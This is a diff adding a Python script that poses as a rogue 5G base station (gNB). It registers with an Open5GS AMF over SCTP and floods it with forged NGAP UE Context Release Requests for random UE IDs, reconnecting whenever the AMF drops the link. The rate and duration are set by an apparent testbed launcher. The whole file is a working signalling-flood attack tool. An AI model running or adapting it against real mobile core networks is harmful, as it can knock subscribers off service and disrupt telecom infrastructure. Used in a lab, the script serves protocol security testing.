@@ -0,0 +1,88 @@
+#!/usr/bin/env python3
+"""Bursts of NGAP UE Context Release Requests against the AMF.
+
+Sets up an NG association as a rogue gNB, then sends UE Context Release
+Requests for random AMF and RAN UE NGAP IDs, reconnecting whenever the AMF
+drops the association.
+
+Settings come from the environment set by the backend launcher:
+TARGET_IP (defaults to the address of open5gs-amf-ngap), PACKET_RATE and
+DURATION.
+"""
+
+import os
+import random
+import socket
+import struct
+import time
+
+AMF_HOST = "open5gs-amf-ngap"
+TARGET_IP = os.environ.get("TARGET_IP") or socket.gethostbyname(AMF_HOST)
+PACKET_RATE = int(os.environ.get("PACKET_RATE", "500"))
+DURATION = int(os.environ.get("DURATION", "0"))
+NGAP_PORT = 38412
+
+
+def ie(ie_id, criticality, value):
+    """A protocol IE: id, criticality and an open type value."""
+    return struct.pack("!HB", ie_id, criticality) + bytes([len(value)]) + value
+
+
+def initiating_message(procedure_code, criticality, ies):
+    value = b"\x00" + struct.pack("!H", len(ies)) + b"".join(ies)
+    return bytes([0x00, procedure_code, criticality, len(value)]) + value
+
+
+def ng_setup_request(gnb_id):
+    """An NG Setup Request for PLMN 001/01, TAC 1 and SST 1, APER encoded."""
+    return initiating_message(0x15, 0x00, [
+        ie(27, 0x00, b"\x00\x00\x00\xf1\x10\x50" + struct.pack("!I", gnb_id)),    # GlobalRANNodeID
+        ie(102, 0x00, b"\x00\x00\x00\x00\x01\x00\x00\xf1\x10\x00\x00\x00\x08\x01"),  # SupportedTAList
+        ie(21, 0x40, b"\x40"),                                                       # DefaultPagingDRX v128
+    ])
+
+
+def ue_context_release_request(amf_ue_id, ran_ue_id):
+    """A UE Context Release Request with cause radioNetwork user-inactivity."""
+    return initiating_message(0x2a, 0x40, [
+        ie(10, 0x00, b"\x80" + amf_ue_id.to_bytes(5, "big")),  # AMF-UE-NGAP-ID, 5 octets
+        ie(85, 0x00, b"\xc0" + ran_ue_id.to_bytes(4, "big")),  # RAN-UE-NGAP-ID, 4 octets
+        ie(15, 0x40, b"\x02\x80"),                              # Cause
+    ])
+
+
+def associate():
+    sock = socket.socket(socket.AF_INET, socket.SOCK_STREAM, socket.IPPROTO_SCTP)
+    sock.settimeout(2)
+    sock.connect((TARGET_IP, NGAP_PORT))
+    sock.send(ng_setup_request(random.getrandbits(32)))
+    return sock
+
+
+def main():
+    interval = 1.0 / PACKET_RATE if PACKET_RATE > 0 else 0
+    deadline = time.time() + DURATION if DURATION > 0 else None
+    sock = None
+    sent = 0
+    while deadline is None or time.time() < deadline:
+        try:
+            if sock is None:
+                sock = associate()
+                print("NG association to %s established" % TARGET_IP, flush=True)
+            sock.send(ue_context_release_request(random.getrandbits(40), random.getrandbits(32)))
+            sent += 1
+            if sent % 1000 == 0:
+                print("sent %d UE Context Release Requests" % sent, flush=True)
+        except OSError as err:
+            print("association to %s lost: %s" % (TARGET_IP, err), flush=True)
+            if sock is not None:
+                sock.close()
+            sock = None
+            time.sleep(1)
+            continue
+        if interval:
+            time.sleep(interval)
+
+
+if __name__ == "__main__":
+    main()